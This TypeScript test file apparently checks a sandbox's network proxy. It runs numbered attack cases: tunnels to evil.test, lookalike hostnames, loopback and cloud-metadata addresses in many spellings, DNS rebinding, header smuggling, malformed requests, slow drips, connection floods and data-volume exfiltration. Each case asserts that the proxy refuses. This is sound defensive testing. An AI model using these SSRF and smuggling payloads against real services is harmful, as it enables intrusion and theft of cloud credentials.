import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer as createTlsServer } from "node:https";
import type { Server } from "node:net";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { after } from "node:test";
import { type Clock, systemClock } from "../../src/base/clock.ts";
import { systemIds } from "../../src/base/ids.ts";
import { localOwner } from "../../src/protocol/ids.ts";
import { openNetwork } from "../../src/sandbox/network/network.ts";
import type { ProxyLimits } from "../../src/sandbox/network/proxy.ts";
import { proxyLimits } from "../../src/sandbox/network/proxy.ts";
import type { Lookup } from "../../src/web/web.ts";
import { guestTest as test } from "../contracts/sandbox-guests.ts";
import { until } from "../world/events.ts";
import { manualClock } from "../world/manual-clock.ts";
import { serveHttp } from "../world/package-index.ts";
import { quietLogger } from "../world/workspace.ts";
import {
  type Attacked,
  attackerUid,
  attempt,
  conversation,
  endGuests,
  limits,
  newFolder,
  openProvider,
} from "./guest.ts";

after(endGuests);

// Whom a program reaches with the one way out that an operator has opened for it, and whom not.

test("a program reaches the host that is allowed, by http and through a tunnel, with the tools that people use [X5]", async () => {
  const [first = ""] = [
    await attempt(await reaching(), {
      language: "bash",
      code: `curl -sS http://${mirror}/a; curl -sSp http://${mirror}/b; python3 -c "import urllib.request as u; print(u.urlopen('http://${mirror}/c').read())"`,
    }),
  ];
  assert.equal(first, "hellohellob'hello' | done 0");
  assert.deepEqual(heard.slice(-3), [`GET ${mirror} /a`, `GET ${mirror} /b`, `GET ${mirror} /c`]);
});

test("a program reaches an allowed host by https, and it is the program that checks the certificate [X5]", async () => {
  const folder = newFolder();
  const [key, certificate] = [join(folder, "key.pem"), join(folder, "certificate.pem")];
  const made = spawnSync("openssl", [
    ...["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1"],
    ...["-subj", "/CN=tls.test", "-addext", "subjectAltName=DNS:tls.test", "-keyout", key, "-out", certificate],
  ]);
  assert.equal(made.status, 0, String(made.stderr));
  const server = createTlsServer({ key: readFileSync(key), cert: readFileSync(certificate) }, (_, response) =>
    response.end("hello by tls"),
  );
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  after(() => server.close());
  const place = `tls.test:${portOf(server)}`;
  const trusting = await openReaching({ hosts: [place], privateHosts: [place] });
  const pem = JSON.stringify(readFileSync(certificate, "utf8"));
  const code = `
import ssl, urllib.request, urllib.error
def read(context=None):
    try:
        return urllib.request.urlopen("https://${place}/", context=context).read().decode()
    except urllib.error.URLError as error:
        return type(error.reason).__name__
say([read(ssl.create_default_context(cadata=${pem})), read()])
`;
  assert.deepEqual(await said(code, trusting), ["hello by tls", "SSLCertVerificationError"]);
});

test("attack 181: reaching a host that nobody allowed is stopped by the list, which the answer names [X5]", async () => {
  const answer = await said(`say(ask(tunnel("evil.test:443")))`);
  const text =
    "evil.test:443 is not allowed here; an operator can add it to sandbox.network_hosts in config/agentyard.yaml";
  assert.match(String(answer), new RegExp(`^HTTP/1.1 403 Forbidden: ${text}\r\n.*\r\n\r\n${text}\n$`, "s"));
  const { logged } = await reaching();
  assert.deepEqual(
    logged.at(-1),
    `a program was kept from the network {"owner":"local","why":"host","host":"evil.test","port":443}`,
  );
});

test("attack 182: names that only look like an allowed one are stopped by whole names [X5]", async () => {
  const names = "evilallowed.test allowed.test a.allowed.test.evil.test mirror.test.evil.test xmirror.test".split(" ");
  const answers = await said(
    `say([status(tunnel(name + ":443")) for name in ${JSON.stringify(names)}] + [status(tunnel("a.b.allowed.test:443"))])`,
  );
  // The last one is allowed by its name, and not by its address.
  assert.deepEqual(answers, new Array(6).fill(forbidden));
  assert.match((await reaching()).logged.at(-1) ?? "", /"why":"private","host":"a\.b\.allowed\.test"/);
});

test("attack 183: other ports of an allowed host, mail and shells among them, are stopped by the list [X5]", async () => {
  const places = [
    `mirror.test:${secret}`,
    "mirror.test:22",
    "mirror.test:25",
    "mirror.test:443",
    "allowed.test:443",
    "a.allowed.test:8443",
  ];
  assert.deepEqual(
    await said(`say([status(tunnel(place)) for place in ${JSON.stringify(places)}])`),
    new Array(6).fill(forbidden),
  );
});

test("attack 184: this machine, the network around it and the cloud's credentials by any spelling are stopped by the list [X5]", async () => {
  const hosts =
    "127.0.0.1 localhost 2130706433 0177.0.0.1 0x7f.1 127.1 0 169.254.169.254 [::1] [::ffff:127.0.0.1] [::ffff:7f00:1] 10.0.0.1".split(
      " ",
    );
  const code = `say([status(request) for host in ${JSON.stringify(hosts)} for request in (tunnel(host + ":${secret}"), get("http://" + host + ":${secret}/"))])`;
  assert.deepEqual(await said(code), new Array(24).fill(forbidden));
});

test("attack 185: an allowed name that leads to a private address is stopped when it is looked up [X5]", async () => {
  const places = [
    [["10.1.2.3"], "private"],
    [["127.0.0.1", "::1"], "private"],
    [["fd12::1"], "private"],
    [["100.64.0.1"], "private"],
    [["169.254.169.254"], "never"],
    [["::ffff:169.254.169.254"], "never"],
    [["64:ff9b::a9fe:a9fe"], "never"],
    [["2002:7f00:1::"], "never"],
    [["0.0.0.0"], "never"],
    [["224.0.0.1", "fe80::1"], "never"],
  ] as const;
  const lookup = async (host: string) => places[Number.parseInt(host, 10)]?.[0] ?? [];
  const attacked = await openReaching({ hosts: ["*.mirror.test"], privateHosts: [], lookup });
  for (const [number, [, why]] of places.entries()) {
    assert.equal(await said(`say(status(tunnel("${number}.mirror.test:80")))`, attacked), forbidden);
    assert.match(attacked.logged.at(-1) ?? "", new RegExp(`"why":"${why}"`));
  }
});

test("attack 186: the cloud's credentials stay out of reach also by a name whose private address is allowed [X5]", async () => {
  const attacked = await openReaching({ lookup: async () => ["169.254.169.254", "0.0.0.0", "::"] });
  assert.equal(await said(`say(status(tunnel("${mirror}")))`, attacked), forbidden);
});

test("attack 187: a name that changes its address after the check is stopped by one look only [X5]", async () => {
  const before = heard.length;
  let looks = 0;
  const rebinding = await openReaching({
    privateHosts: [],
    async lookup() {
      looks += 1;
      // A public address that nobody has; then this machine.
      return looks === 1 ? ["3ffe::1"] : ["127.0.0.1"];
    },
    limits: { connectMsMax: 200 },
  });
  assert.equal(await said(`say(status(get("http://${mirror}/")))`, rebinding), "502 Bad Gateway");
  assert.deepEqual([looks, heard.length], [1, before]);
});

test("attack 187b: a name that leads to a public address and to this machine is stopped by leaving the second one out [X5]", async () => {
  const before = heard.length;
  const both = await openReaching({
    privateHosts: [],
    lookup: async () => ["127.0.0.1", "3ffe::1"],
    limits: { connectMsMax: 200 },
  });
  assert.equal(await said(`say(status(get("http://${mirror}/")))`, both), "502 Bad Gateway");
  assert.equal(heard.length, before);
});

test("attack 187c: approving for the user at the port of AgentYard itself is stopped also where that host is allowed [X5][H1]", async () => {
  const before = heard.length;
  const all = Object.values(networkInterfaces()).flatMap((some) => some ?? []);
  const mine = all.find(({ internal, family }) => !internal && family === "IPv4");
  const addresses = ["127.0.0.1", "127.0.0.2", "::1", mine?.address ?? "127.0.0.1"];
  const hosts = addresses.map((_, number) => `${number}.test:${port}`);
  const lookup = async (host: string) => addresses.slice(Number.parseInt(host, 10)).slice(0, 1);
  const shut = await openReaching({ hosts, privateHosts: hosts, lookup, ownPorts: new Set([port]) });
  for (const host of hosts) {
    const text = `${host} is AgentYard itself, which no program may reach`;
    assert.deepEqual(await said(`say([status(get("http://${host}/")), ask(tunnel("${host}"))])`, shut), [
      forbidden,
      `HTTP/1.1 403 Forbidden: ${text}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: ${text.length + 1}\r\nConnection: close\r\n\r\n${text}\n`,
    ]);
  }
  assert.equal(heard.length, before);
  const beside = await openReaching({ ownPorts: new Set([port + 1]) });
  assert.equal(await said(`say(status(get("http://${mirror}/")))`, beside), "200 OK");
});

test("attack 188: being sent on to a host that is not allowed is stopped at the second step [X5]", async () => {
  const code = `import urllib.request, urllib.error
try:
    say(urllib.request.urlopen("http://${mirror}/away").read().decode())
except urllib.error.HTTPError as error:
    say([error.code, error.read().decode().split(" ")[0]])`;
  assert.deepEqual(await said(code), [403, `secret.test:${port}`]);
});

test("attack 189: naming another host in the header is stopped by the name that was checked [X5]", async () => {
  const before = heard.length;
  const code = `say(status("GET http://${mirror}/fronted HTTP/1.1\\r\\nHost: secret.test\\r\\nhost: other.test\\r\\nProxy-Authorization: x\\r\\nConnection: keep-alive, x-hop\\r\\nX-Hop: 1\\r\\n\\r\\n"))`;
  assert.equal(await said(code), "200 OK");
  assert.deepEqual(heard.slice(before), [`GET ${mirror} /fronted`]);
});

test("attack 190: requests that two readers could take for different ones are stopped by a strict reader [X5]", async () => {
  const requests = [
    `GET http://user@${mirror}/ HTTP/1.1\r\n\r\n`,
    `GET http://evil.test\\@${mirror}/ HTTP/1.1\r\n\r\n`,
    `GET http://mirror%2etest:${port}/ HTTP/1.1\r\n\r\n`,
    `GET http://${mirror}/ HTTP/1.1\r\nA: b\r\n c: folded\r\n\r\n`,
    `GET http://${mirror}/ HTTP/1.1\r\nA: b\nHost: secret.test\r\n\r\n`,
    `GET http://${mirror}/ HTTP/1.1\r\nA\0: b\r\n\r\n`,
    `GET http://${mirror}/ HTTP/1.1\r\nA : b\r\n\r\n`,
    `GET http://${mirror}/ HTTP/2\r\n\r\n`,
    `GET  http://${mirror}/ HTTP/1.1\r\n\r\n`,
    `get http://${mirror}/ HTTP/1.1\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: ${mirror}\r\n\r\n`,
    `GET https://${mirror}/ HTTP/1.1\r\n\r\n`,
    `GET ftp://${mirror}/ HTTP/1.1\r\n\r\n`,
    `CONNECT mirror.test HTTP/1.1\r\n\r\n`,
    `CONNECT mirror.test:0 HTTP/1.1\r\n\r\n`,
    `CONNECT mirror.test:99999 HTTP/1.1\r\n\r\n`,
    `CONNECT http://${mirror} HTTP/1.1\r\n\r\n`,
    `CONNECT ${mirror}/x HTTP/1.1\r\n\r\n`,
    "\x16\x03\x01\x02\x00\r\n\r\n",
    "\r\n\r\n",
  ];
  const before = heard.length;
  const answers = await said(
    `say([status(request) for request in json.loads(${JSON.stringify(JSON.stringify(requests))})])`,
  );
  assert.deepEqual([answers, heard.length], [new Array(requests.length).fill("400 Bad Request"), before]);
});

// What a program can try with the one way out that an operator has opened for it.

/** The host that is allowed, and what else this machine has to offer. */
export const heard: string[] = [];

export const port = await serveHttp({ after }, (request, response) => {
  heard.push(`${request.method} ${request.headers.host} ${request.url}`);
  if (request.url === "/away") return response.writeHead(302, { location: `http://secret.test:${port}/` }).end();
  if (request.url === "/endless") return void endless(() => response.write(Buffer.alloc(65_536)));
  return response.end("hello");

  function endless(write: () => boolean): void {
    while (!response.destroyed && write());
    response.once("drain", () => endless(write));
  }
});

export const secret = await serveHttp({ after }, (_, response) => response.end("secret"));
export const mirror = `mirror.test:${port}`;

type Wanted = {
  readonly hosts?: readonly string[];
  readonly privateHosts?: readonly string[];
  readonly lookup?: Lookup;
  readonly ownPorts?: ReadonlySet<number>;
  readonly limits?: Partial<ProxyLimits>;
  readonly clock?: Clock;
};

type Reaching = Attacked & {
  readonly logged: string[];
  /** One more guest of the same user. */
  beside(): Promise<Attacked>;
};

/** A guest that may reach the mirror, which is on this machine. */
export async function openReaching(wanted: Wanted = {}): Promise<Reaching> {
  const logged: string[] = [];
  const { hosts = [mirror], privateHosts = [mirror], lookup = async () => ["127.0.0.1"] } = wanted;
  const network = openNetwork({
    ...{ rules: { hosts, privateHosts }, lookup, limits: wanted.limits, clock: wanted.clock ?? systemClock },
    ownPorts: wanted.ownPorts,
    logger: quietLogger(logged),
  });
  const provider = openProvider();
  const open = async (): Promise<Attacked> => {
    const workspace = conversation(newFolder());
    const opened = await provider.open({
      ...{ id: systemIds.hex(16), workspace, limits, uid: attackerUid, env: {} },
      network: network.wayOut(localOwner),
    });
    assert.ok(opened.ok, opened.ok ? "" : `${opened.failure.why}: ${opened.failure.said}`);
    return { guest: opened.value, folder: workspace.folder };
  };
  return { ...(await open()), logged, beside: open };
}

let shared: Promise<Reaching> | undefined;

export function reaching(): Promise<Reaching> {
  shared ??= openReaching({
    hosts: [mirror, "*.allowed.test", "allowed.test:8443"],
    lookup: async (host) => (host === "nowhere.allowed.test" ? [] : ["127.0.0.1"]),
  });
  return shared;
}

/** `ask(request)`: the first line of the answer and how it goes on. */
const asking = `
def ask(request):
    with socket.create_connection(("127.0.0.1", 3128), 30) as s:
        s.sendall(request.encode("latin1"))
        answer = b""
        try:
            while piece := s.recv(65536):
                answer += piece
        except (TimeoutError, ConnectionError) as error:
            return type(error).__name__
    return answer.decode("latin1")
def status(request):
    return ask(request).split("\\r\\n")[0].removeprefix("HTTP/1.1 ").split(":")[0]
def get(url):
    return "GET " + url + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
def tunnel(place):
    return "CONNECT " + place + " HTTP/1.1\\r\\n\\r\\n"
`;

export const said = async (code: string, attacked?: Attacked) =>
  attempt(attacked ?? (await reaching()), { code: `${asking}\n${code}`, timeoutMs: 60_000 });

export const forbidden = "403 Forbidden";

export function portOf(server: Pick<Server, "address">): number {
  const address = server.address();
  return address !== null && typeof address === "object" ? address.port : 0;
}

test("attack 191: a flood of headers and a request that never ends are stopped by size and time [X5][X4]", async () => {
  const flood = `say(status("GET http://${mirror}/ HTTP/1.1\\r\\n" + "A: " + "b" * 40000))`;
  assert.equal(await said(flood), "431 Request Header Fields Too Large");
  const drip = `
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://${mirror}/ HTTP/1.1\\r\\n")
s.settimeout(0.02)
answer = b""
began = time.monotonic()
while not answer and time.monotonic() - began < 30:
    try:
        s.sendall(b"A: b\\r\\n")
        answer = s.recv(65536)
    except TimeoutError:
        pass
say(answer.decode().split(":")[0])
`;
  const clock = manualClock();
  const slow = await openReaching({ clock });
  const dripped = said(drip, slow);
  await until("it is refused", () => {
    clock.move(proxyLimits.headMsMax / 20);
    return slow.logged.length > 0;
  });
  assert.equal(await dripped, "HTTP/1.1 408 Request Timeout");
});

test("attack 192: too many connections at once wait, and those that say nothing make room in time [X5][X4]", async () => {
  const { connectionsMax, headMsMax } = proxyLimits;
  const clock = manualClock();
  const busy = await openReaching({ clock });
  const code = `
held = [socket.create_connection(("127.0.0.1", 3128), 30) for _ in range(${connectionsMax + 8})]
say(status(get("http://${mirror}/late")))
`;
  const late = said(code, busy);
  await until("no place is left", () => clock.timers() === connectionsMax);
  clock.move(headMsMax);
  await until("those who said nothing are told so", () => busy.logged.length === connectionsMax);
  clock.move(headMsMax);
  assert.equal(await late, "200 OK");
});

test("attack 193: a connection that nobody reads does not hold up others, nor fill the memory of the host [X5][X4]", async () => {
  const unread = await openReaching();
  const code = `
held = []
for _ in range(8):
    s = socket.create_connection(("127.0.0.1", 3128), 30)
    s.sendall(get("http://${mirror}/endless").encode())
    s.recv(10)
    held.append(s)
say([status(get("http://${mirror}/beside")) for _ in range(5)])
`;
  const before = process.memoryUsage().arrayBuffers;
  assert.deepEqual(await said(code, unread), new Array(5).fill("200 OK"));
  assert.ok(process.memoryUsage().arrayBuffers - before < 64 * 1024 * 1024);
});

test("attack 194: carrying off more than the limit is stopped by counting, also over many connections [X5][X4]", async () => {
  const limited = await openReaching({ limits: { connectionBytesMax: 100_000, ownerBytesMax: 150_000 } });
  const code = `
first, second = len(ask(get("http://${mirror}/endless"))), len(ask(get("http://${mirror}/endless")))
say([first < 300000, second < 300000, status(get("http://${mirror}/"))])
`;
  assert.deepEqual(await said(code, limited), [true, true, forbidden]);
});

test("attack 202: carrying off more than the limit by ever new sandboxes is stopped by counting what a user's sandboxes move together [X5][X4]", async () => {
  const first = await openReaching({ limits: { ownerBytesMax: 100_000 } });
  const second = await first.beside();
  assert.equal(await said(`say(len(ask(get("http://${mirror}/endless"))) < 300000)`, first), true);
  await first.guest.close("left");
  const third = await first.beside();
  const answers = [second, third].map((guest) => said(`say(status(get("http://${mirror}/")))`, guest));
  assert.deepEqual(await Promise.all(answers), [forbidden, forbidden]);
});

test("attack 195: a tunnel that is kept open without use, or for ever, is stopped by time [X5][X4]", async () => {
  const server: Server = createServer((socket) => socket.on("error", () => {}).on("data", () => socket.write("x")));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  after(() => server.close());
  const place = `mirror.test:${portOf(server)}`;
  const rules = { hosts: [place], privateHosts: [place] };
  const clock = manualClock();
  const idle = await openReaching({ ...rules, clock, limits: { idleMsMax: 300 } });
  const long = await openReaching({ ...rules, clock, limits: { connectionMsMax: 600 } });
  const code = `
s = socket.create_connection(("127.0.0.1", 3128), 30)
s.sendall(tunnel("${place}").encode())
s.recv(1000)
try:
    while True:
        s.sendall(b"x") if IS_BUSY else None
        if not s.recv(10):
            break
    say("closed")
except ConnectionError:
    say("closed")
`;
  for (const [isBusy, attacked, why] of [
    ["False", idle, "idle"],
    ["True", long, "time"],
  ] as const) {
    const connected = once(server, "connection");
    const ended = said(`IS_BUSY = ${isBusy}\n${code}`, attacked);
    await connected;
    await until("it is cut", () => {
      clock.move(100);
      return attacked.logged.length > 0;
    });
    assert.equal(await ended, "closed");
    assert.match(attacked.logged.join(), new RegExp(`^a connection of a program was cut .*"why":"${why}"\\}$`));
  }
});

test("attack 196: using the way out of another conversation is stopped by a network for each [X5][X3]", async () => {
  const without = await openProvider().open({
    ...{ id: systemIds.hex(16), workspace: conversation(newFolder()), limits, uid: attackerUid, env: {} },
  });
  assert.ok(without.ok);
  await reaching();
  const code = `say([error_of(socket.create_connection, ("127.0.0.1", 3128), 2), [name for name in os.environ if "proxy" in name.lower()]])`;
  assert.deepEqual(await attempt({ guest: without.value, folder: "" }, { code }), ["ECONNREFUSED", []]);
});

test("attack 197: going around the proxy is stopped by a network that has nothing else [X5]", async () => {
  const code = `
def look():
    try:
        return socket.getaddrinfo("mirror.test", 80)
    except socket.gaierror:
        return "no answer"
say([look(), error_of(socket.create_connection, ("127.0.0.1", ${port}), 2), error_of(socket.create_connection, ("192.0.2.1", 80), 2), os.path.exists("/etc/resolv.conf") and text_of("/etc/resolv.conf") or "nobody"])
`;
  assert.deepEqual(await said(code), ["no answer", "ECONNREFUSED", "ENETUNREACH", "nobody"]);
});

test("attack 198: taking the supervisor's socket to the proxy is stopped, for no program inherits it or looks in [X5]", async () => {
  const code = `
kinds = sorted(os.readlink(f"/proc/self/fd/{fd}").split(":")[0] for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}"))
say([kinds.count("socket"), error_of(os.listdir, "/proc/1/fd"), error_of(lambda: socket.create_server(("127.0.0.1", 3128), reuse_port=True))])
`;
  // Its one socket is the link of its own Python.
  assert.deepEqual(await said(code), [1, "EACCES", "EADDRINUSE"]);
});

test("attack 199: ending the way out for all programs of a conversation is stopped by its being part of process 1 [X5]", async () => {
  const code = `
for number in range(1, 32):
    try:
        os.kill(1, number)
    except OSError:
        pass
for _ in range(300):
    s = socket.create_connection(("127.0.0.1", 3128), 30)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.sendall(b"CONNECT ${mirror} HTTP/1.1\\r\\n\\r\\n")
    s.close()
say(status(get("http://${mirror}/after")))
`;
  assert.equal(await said(code), "200 OK");
});

test("attack 200: filling the log with refusals is stopped after some [X5][X4]", async () => {
  const noisy = await openReaching();
  assert.equal(
    await said(`say(len({status(get("http://evil.test/?secret=" + str(n))) for n in range(400)}))`, noisy),
    1,
  );
  assert.equal(noisy.logged.length, 200);
  assert.ok(!noisy.logged.join("").includes("secret"));
});
